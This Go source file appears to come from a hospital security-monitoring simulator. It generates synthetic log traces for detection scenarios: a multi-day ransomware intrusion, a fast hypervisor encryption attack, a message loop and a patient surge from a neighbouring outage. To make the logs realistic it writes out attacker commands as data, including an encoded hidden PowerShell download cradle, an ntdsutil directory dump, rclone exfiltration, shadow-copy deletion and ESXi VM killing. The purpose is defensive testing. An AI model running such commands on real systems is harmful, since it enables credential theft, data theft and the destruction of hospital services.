package story

import (
	"fmt"
	"time"

	"github.com/wardline/wardline/internal/sim/feed"
	"github.com/wardline/wardline/internal/sim/life"
	"github.com/wardline/wardline/internal/sim/trace"
	"github.com/wardline/wardline/internal/sim/world"
)

// attacks are intruders who stop the house, a loop that floods it, and a neighbour who was hit.
func attacks() []life.Story {
	return []life.Story{
		{
			ID: "D09", Title: "Intruders come by a letter, take the network in a week, steal, delete the backups and encrypt on a Saturday night.",
			Days: 9, Sources: []feed.Feed{feed.Windows, feed.Connections, feed.Network, feed.Backups, feed.Archive, feed.Wire, feed.SignIns, feed.Lab, feed.ADT}, Detector: "stages of an attack, then feeds that stop together",
			Target: 3 * day, Case: true, Harm: 5, Run: told(longSiege),
		},
		{
			ID: "D10", Title: "Within five hours intruders come by remote access and encrypt the hosts of the virtual machines.",
			Days: 1, Sources: []feed.Feed{feed.VPN, feed.Connections, feed.Hypervisors}, Detector: "machines stopped on a host", Target: 10 * time.Minute, Case: true, Harm: 5, Run: told(smashAndGrab),
		},
		{
			ID: "D11", Title: "A loop sends the same updates of patients again and again.",
			Days: 1, Sources: []feed.Feed{feed.ADT, feed.Engine}, Detector: "surge of equal messages", Target: 5 * time.Minute, Case: true, Harm: 2, Run: told(loop),
		},
		{
			ID: "D12", Title: "A neighbouring hospital is down, and a third more ambulances come for four weeks.",
			Days: 28, Sources: []feed.Feed{feed.ADT}, Detector: "surge from outside, no attack", Target: day, Case: false, Harm: 3, Run: told(neighbourHit),
		},
	}
}

// intrusion is a long attack under way.
type intrusion struct {
	*scene
	login, machine, ip string // of the person who opened the letter
	last               int    // the day whose night is the last
}

const (
	systemDir  = `C:\Windows\System32\`
	powershell = systemDir + `WindowsPowerShell\v1.0\powershell.exe`
	cmd        = systemDir + "cmd.exe"
)

func (i *intrusion) ran(at time.Time, computer, login, image, parent, command string) {
	i.windows(at, trace.Process(i.number(), computer, login, image, parent, command))
}

// within moves a day of the story into the days that there are.
func (s *scene) within(d int) int { return min(d, s.Days()-1) }

func longSiege(s *scene) {
	who := s.anyOf([]string{"SCH", "FD", "ADM"}, nil)
	if who == nil {
		return
	}
	s.Note([]*world.Staff{who}, nil)
	seat := s.seat(who, s.At(0, 10, 2))
	i := &intrusion{scene: s, login: who.Login, machine: seat.Host, ip: seat.IP, last: s.lastNight()}
	i.wayIn()
	i.lookAround()
	i.takeAway()
	i.blind()
	i.encrypt()
}

// lastNight is the day in whose night all is encrypted: a Friday after six days or more if there is one, and early enough for
// somebody to see it.
func (s *scene) lastNight() int {
	for d := 6; d < s.Days()-1; d++ {
		if s.Day(d).Weekday() == time.Friday {
			return d
		}
	}
	return max(0, min(6, s.Days()-2))
}

func (i *intrusion) wayIn() {
	at := i.around(0, 10, 2)
	i.ran(at, i.machine, i.login, powershell, `C:\Program Files\Office\WINWORD.EXE`, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA")
	i.say(feed.Network, at.Add(40*time.Second), trace.Alert(at.Add(40*time.Second), i.next(), i.ip, "203.0.113.66", 443, 9000001, 1, "loader fetched"))
	for n := range 40 {
		when := at.Add(time.Duration(n) * 17 * time.Minute)
		i.connection(when, trace.Conn{From: i.ip, To: "203.0.113.66", Port: 443, State: "SF", Out: 900 + i.Rand.Int64N(400), Back: 1_400, Lasted: 3 * time.Second})
	}
	directory := at.Add(11 * time.Hour) // the median time from the door to the directory
	i.windows(directory, trace.Logon(i.number(), "DC-01", "svc_deploy", 3, trace.From{IP: i.ip}, true))
	i.ran(directory.Add(4*time.Minute), "DC-01", "svc_deploy", systemDir+"ntdsutil.exe", cmd, `ntdsutil "ac i ntds" "ifm" "create full C:\Temp\n" q q`)
	who := i.World().Staff[i.Rand.IntN(len(i.World().Staff))]
	i.SignIn(who, directory.Add(40*time.Minute), "203.0.113.66", "NL", "Remote Access", 0)
}

func (i *intrusion) lookAround() {
	at := i.around(min(3, i.last), 22, 14)
	for n, c := range []string{"nltest /dclist:example", `net group "Domain Admins" /domain`, "whoami /all", "arp -a"} {
		i.ran(at.Add(time.Duration(20*n)*time.Second), i.machine, i.login, cmd, powershell, c)
	}
	for n := range 240 { // who speaks DICOM, who HL7
		port := []int{104, 2575, 445, 3389}[n%4]
		i.connection(at.Add(2*time.Minute+time.Duration(n)*700*time.Millisecond), trace.Conn{From: i.ip, To: fmt.Sprintf("10.40.%d.%d", n/60%2, 1+n/4), Port: port, State: "REJ"})
	}
	for n := range 6 {
		i.onWire(at.Add(8*time.Minute+time.Duration(n)*9*time.Second), trace.Image{Command: "C-ECHO", Calling: "ECHOSCU", Called: []string{"ANY-SCP", "PACS", archiveAE}[n%3], From: i.ip, To: archiveIP, Result: []string{"rejected", "rejected", "accepted"}[n%3]})
	}
}

func (i *intrusion) takeAway() {
	at := i.around(max(0, i.last-1), 23, 31)
	i.ran(at, "SRV-FILE-01", "svc_deploy", `C:\ProgramData\rclone.exe`, cmd, `rclone copy D:\ remote:b --max-age 3y --transfers 12`)
	for n := range 12 {
		when := at.Add(time.Duration(n) * 22 * time.Minute)
		i.connection(when, trace.Conn{From: shareIP, To: "203.0.113.80", Port: 443, State: "SF", Out: 25_000_000_000, Back: 40_000_000, Lasted: 21 * time.Minute, Service: "ssl"})
		i.say(feed.Network, when, trace.Flow(when, i.next(), shareIP, "203.0.113.80", 443, 25_000_000_000, 40_000_000, 21*time.Minute))
	}
}

func (i *intrusion) blind() {
	at := i.around(i.last, 20, 40)
	i.say(feed.Backups, at, trace.Server{Host: "srv-backup-01", Program: "Veeam_MP", Process: 1}.Line(at, "job=\"nightly record system\" state=deleted user=EXAMPLE\\svc_deploy"))
	i.say(feed.Backups, at.Add(time.Minute), trace.Server{Host: "srv-backup-01", Program: "Veeam_MP", Process: 1}.Line(at.Add(time.Minute), "repository=\"disk-1\" restore_points=0 deleted=412 user=EXAMPLE\\svc_deploy"))
	for n := range 30 {
		i.windows(at.Add(20*time.Minute+time.Duration(n)*8*time.Second), trace.Service(i.number(), fmt.Sprintf("SRV-APP-%02d", n+1), "Endpoint Sensor", "stopped"))
	}
	stopped := at.Add(40 * time.Minute)
	i.say(feed.Archive, stopped, trace.Audit{Event: trace.DCM("110113"), Type: trace.DCM("110133"), Outcome: 4, Who: trace.Who{Login: "pacsadmin", Name: "PACS Administrator"}, From: trace.From{IP: i.ip}, Source: archiveAE}.Syslog(stopped))
}

func (i *intrusion) encrypt() {
	at := i.around(i.last, 25, 0)
	i.ran(at, "SRV-FILE-01", "svc_deploy", systemDir+"vssadmin.exe", cmd, "vssadmin delete shadows /all /quiet")
	names := []string{"~AAAA passwords.docx", "Letters\\letter%04d.docx", "Scans\\scan%04d.pdf", "Rosters\\week%04d.xlsx"}
	for n := range 400 {
		name := names[1+n%3]
		file := fmt.Sprintf(`D:\`+name, n)
		if n == 0 { // the decoy that lies first on the share
			file = `D:\` + names[0]
		}
		i.windows(at.Add(2*time.Minute+time.Duration(n)*150*time.Millisecond), trace.Renamed(i.number(), "SRV-FILE-01", "svc_deploy", `C:\ProgramData\upd.exe`, file+".quagga"))
	}
	for n, f := range []feed.Feed{feed.Lab, feed.ADT, feed.Orders, feed.Imaging, feed.Pharmacy} { // all within nine minutes
		i.Silence(f, at.Add(time.Duration(3+n)*time.Minute), i.At(i.Days(), 0, 0), false)
	}
}

func smashAndGrab(s *scene) {
	who := s.anyOf([]string{"ITA", "ADM"}, nil)
	if who == nil {
		return
	}
	s.Note([]*world.Staff{who}, nil)
	at := s.around(0, 21, 10)
	seat, _ := s.fromAfar(who, at, 5*time.Hour, 9_000_000, 44_000_000)
	inside := seat.IP
	for n := range 40 {
		s.connection(at.Add(20*time.Minute+time.Duration(n)*2*time.Second), trace.Conn{From: inside, To: fmt.Sprintf("10.20.8.%d", 1+n), Port: []int{445, 3389, 443}[n%3], State: "S0"})
	}
	host := at.Add(3 * time.Hour)
	s.connection(host, trace.Conn{From: inside, To: "10.20.8.60", Port: 22, State: "SF", Out: 12_000_000, Back: 800_000, Lasted: 100 * time.Minute, Service: "ssh"})
	for n, text := range []string{"[root]: esxcli system account list", "[root]: vim-cmd vmsvc/getallvms", "[root]: vim-cmd vmsvc/snapshot.removeall 12", "[root]: esxcli vm process kill --type=force --world-id=2099121",
		"[root]: chmod +x /tmp/e", "[root]: /tmp/e /vmfs/volumes/ds1 -t 8"} {
		when := host.Add(time.Duration(9*n) * time.Minute)
		s.say(feed.Hypervisors, when, trace.Hypervisor(when, "esx-03", "shell", text))
	}
	for n := range 26 {
		when := host.Add(28*time.Minute + time.Duration(4*n)*time.Second)
		s.say(feed.Hypervisors, when, trace.Hypervisor(when, "esx-03", "hostd", fmt.Sprintf("info hostd - - [Originator@6876 sub=Vimsvc.ha-eventmgr] Event %d : vm-%02d on esx-03 in ha-datacenter is powered off", 4100+n, n+1)))
	}
}

func loop(s *scene) {
	const atScale = 200_000
	n := max(2_000, int(atScale*s.World().Scale))
	at := s.around(0, 11, 25)
	every := 90 * time.Minute / time.Duration(n)
	s.Repeat(feed.ADT, n, at, every)
	for i := range 9 {
		when := at.Add(time.Duration(i) * 10 * time.Minute)
		s.say(feed.Engine, when, trace.Engine(when, "ADT_IN", fmt.Sprintf("received=%d", n/9)))
	}
}

func neighbourHit(s *scene) {
	w := s.World()
	// A quarter of the emergency department's patients come by ambulance (260 a day at 1,000 beds); a third of these more.
	more := max(1, int(260*0.25*0.35*w.Scale+0.5))
	s.Expect(func(t *life.Tale) { t.Start, t.End = s.At(0, 6, 0).UTC(), s.At(s.days(28), 0, 0).UTC() })
	for d := range s.days(28) {
		s.On(d, func() {
			for range more {
				p := s.Stranger(nil)
				if p == world.None {
					return
				}
				s.Note(nil, []world.Person{p})
				s.Stay(p, life.Stay{Class: 'E', Ambulance: true, From: s.At(d, 6, 0).Add(s.between(0, 17*time.Hour))})
			}
		})
	}
}
